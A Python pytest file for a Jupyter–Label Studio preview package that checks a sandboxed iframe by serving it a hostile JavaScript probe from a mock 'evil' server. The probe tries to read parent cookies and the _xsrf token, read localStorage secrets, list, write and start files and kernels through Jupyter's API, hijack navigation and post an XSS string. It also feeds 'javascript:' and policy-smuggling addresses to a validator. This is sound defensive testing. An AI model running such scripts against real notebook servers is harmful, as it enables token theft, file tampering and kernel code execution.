"""A Label Studio that means harm: its scripts run in the preview, and reach nothing of the notebook."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import requests
from jupyter_lab import jupyterlab, open_notebook, run_all, write_notebook
from playwright.sync_api import expect

from lsnb.errors import InputError
from lsnb.forms.page import Preview
from lsnb.study import Studio

if TYPE_CHECKING:
    from playwright.sync_api import Browser, FrameLocator, Page

# Each try gives something that is true where it succeeds.
TRIES = """
const notebook = "__NOTEBOOK__", own = "__OWN__", stage = "__STAGE__";
const cookie = (() => { try { return parent.document.cookie } catch { return "" } })();
const key = cookie.match(/_xsrf=([^;]*)/)?.[1] ?? "";
const headers = { "X-XSRFToken": key, "Content-Type": "application/json" };
const file = JSON.stringify({ type: "file", format: "text", content: "x" });
const sent = { credentials: "include" }, blind = { ...sent, mode: "no-cors", method: "POST" };
const tries = {
  parent: () => parent.document.documentElement.tagName,
  top: () => top.document.title,
  frame: () => frameElement.tagName,
  siblings: () => [...Array(top.length).keys()].some((n) => { try { return top[n].document } catch { return false } }),
  cookies: () => document.cookie,
  storage: () => localStorage.getItem("secret"),
  parentStorage: () => parent.localStorage.getItem("secret"),
  databases: () => indexedDB.databases(),
  popup: () => window.open(own + "/popup", "_blank"),
  reads: async () => (await fetch(notebook + "/api/contents", sent)).ok,
  kernels: async () => (await fetch(notebook + "/api/kernels", sent)).ok,
  writes: async () =>
    (await fetch(notebook + "/api/contents/evil.txt", { ...sent, method: "PUT", headers, body: file })).ok,
  posts: async () => { await fetch(notebook + "/api/contents", { ...blind, body: file }); return false },
  starts: async () => { await fetch(notebook + "/api/kernels", { ...blind, body: "{}" }); return false },
  beacon: () => { navigator.sendBeacon(notebook + "/api/contents", file); return false },
  form: () => {
    const form = document.createElement("form");
    form.method = "post"; form.action = notebook + "/api/contents"; form.target = "_blank";
    document.body.appendChild(form); form.submit(); return false;
  },
  socket: () => new Promise((done) => {
    const line = new WebSocket(notebook.replace("http", "ws") + "/api/events/subscribe");
    line.onopen = () => done("open"); line.onerror = () => done("");
  }),
  worker: async () => !!(await navigator.serviceWorker.register(own + "/worker.js")),
  shared: () => new SharedWorker(own + "/worker.js"),
  link: () => {
    const link = document.createElement("a");
    link.href = own + "/taken"; link.target = "_top";
    document.body.appendChild(link); link.click(); return false;
  },
  leaves: () => { top.location.href = own + "/taken"; return false },
};
(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(tries)) {
    if (stage === "control" && ["form", "link", "leaves", "popup"].includes(name)) continue;
    try { found[name] = String((await attempt()) || "") } catch { found[name] = "" }
  }
  const place = document.createElement("pre");
  place.className = "found-" + stage;
  place.textContent = JSON.stringify(found);
  document.body.appendChild(place);
  parent.postMessage({ said: "height", height: 1e12 }, "*");
  parent.postMessage({ said: "drawn", drawn: "" }, "*");
  parent.postMessage({ said: "<img src=x onerror=alert(1)>" }, "*");
})();
"""


class Evil:
    """A server that means harm, and what it was asked for."""

    def __init__(self) -> None:
        self.notebook = ""
        self.address = ""
        self.asked: list[str] = []

    def script(self, stage: str) -> str:
        """Return the script that tries."""
        script = TRIES.replace("__NOTEBOOK__", self.notebook).replace("__OWN__", self.address)
        return script.replace("__STAGE__", stage)


@contextmanager
def evil_server() -> Iterator[Evil]:
    evil = Evil()

    class Answers(http.server.BaseHTTPRequestHandler):
        def log_message(self, *_: object) -> None: ...

        def do_GET(self) -> None:
            evil.asked.append(self.path)
            content, kind = {
                "/react-app/runtime.js": (evil.script("preview"), "text/javascript"),
                "/control.js": (evil.script("control"), "text/javascript"),
                "/page": (f"<body><script>{evil.script('page')}</script>", "text/html"),
            }.get(self.path, ("", "text/plain"))
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(content.encode())

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answers)
    evil.address = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield evil
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


CELL = """
import ipywidgets
from lsnb import LabelConfig
from lsnb.forms.page import Preview
{more}
config = LabelConfig.image("uri").choices("mood", ["joyful", "tense"])
preview = Preview({address!r})
box = ipywidgets.VBox([ipywidgets.HTML(preview.frame), ipywidgets.HTML(preview.draft(config, None))])
box.add_class("lsnb-preview")
box
"""


def reached(place: FrameLocator | Page, stage: str) -> dict[str, Any]:
    found = place.locator(f".found-{stage}")
    found.wait_for(state="attached")
    return dict(json.loads(found.inner_text()))


def state(lab: str, folder: Path) -> tuple[list[str], int]:
    files = sorted(
        str(path.relative_to(folder)) for path in folder.rglob("*") if ".ipynb_checkpoints" not in path.parts
    )
    return files, len(requests.get(f"{lab}/api/kernels", timeout=30).json())


@pytest.mark.browser
@pytest.mark.parametrize(
    "has_policy", [True, pytest.param(False, marks=pytest.mark.slow)], ids=["whole", "without its policy"]
)
def test_a_hostile_server_reaches_nothing_of_the_notebook(browser: Browser, tmp_path: Path, has_policy: bool) -> None:
    # The frame has no origin, which is enough by itself; its policy is a second wall.
    more = "" if has_policy else "import lsnb.forms.page as module\nmodule._policy = lambda _: 'frame-src *'"
    folder = tmp_path / "notebooks"
    folder.mkdir()
    with evil_server() as evil:
        write_notebook(folder / "evil.ipynb", [CELL.format(address=evil.address, more=more)])
        with jupyterlab(tmp_path, folder) as lab:
            evil.notebook = lab.rstrip("/")
            page = browser.new_page()
            opened: list[str] = []
            page.context.on("page", lambda other: opened.append(other.url))
            try:
                open_notebook(page, lab, "evil.ipynb")
                page.evaluate("localStorage.setItem('secret', 'of the notebook')")
                run_all(page)
                outer = page.frame_locator(".lsnb-preview-frame")
                found = reached(outer.frame_locator("iframe"), "preview")
                assert found == dict.fromkeys(found, "")
                # What is no editor ends in the outline, which the server has no say in.
                expect(outer.locator(".lsnb-preview-outline")).to_contain_text("tense")
                before = state(evil.notebook, folder)
                assert before == (["evil.ipynb"], 1)
                assert "/taken" not in evil.asked
                assert page.url.startswith(lab)
                assert page.locator(".lsnb-preview-frame").bounding_box()["height"] <= 810  # type: ignore[index]
                assert opened == []
                within = next(frame for frame in page.frames if frame.parent_frame and frame.parent_frame.parent_frame)
                within.evaluate("(page) => { location.href = page }", f"{evil.address}/page")
                expect(outer.frame_locator("iframe").locator(".found-preview")).to_have_count(0)
                assert "/page" not in evil.asked, "the frame was taken to a page of the server's"

                # The same script in a frame of the notebook's own origin, as it was once: the tries are real.
                page.evaluate(
                    "(source) => { const frame = document.createElement('iframe'); frame.id = 'as-once';"
                    " frame.srcdoc = `<body><script src='${source}'></${'script'}>`; document.body.append(frame); }",
                    f"{evil.address}/control.js",
                )
                control = reached(page.frame_locator("#as-once"), "control")
                for name in ("parent", "storage", "cookies", "reads", "kernels", "writes"):
                    assert control[name], name
                assert "evil.txt" in state(evil.notebook, folder)[0]
            finally:
                page.close()


def test_no_link_in_a_notebook_is_a_script() -> None:
    with pytest.raises(InputError, match="begins with http:// or https://"):
        Studio("http://127.0.0.1:9", "a-key", browser_url="javascript:alert(1)")


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "data:text/html,x", "http://a b", "http://a;script-src *", "//host", "http://x'y", ""],
)
def test_no_address_but_of_a_server_gets_into_the_page(address: str) -> None:
    with pytest.raises(InputError, match="is no address of a Label Studio"):
        _ = Preview(address).frame
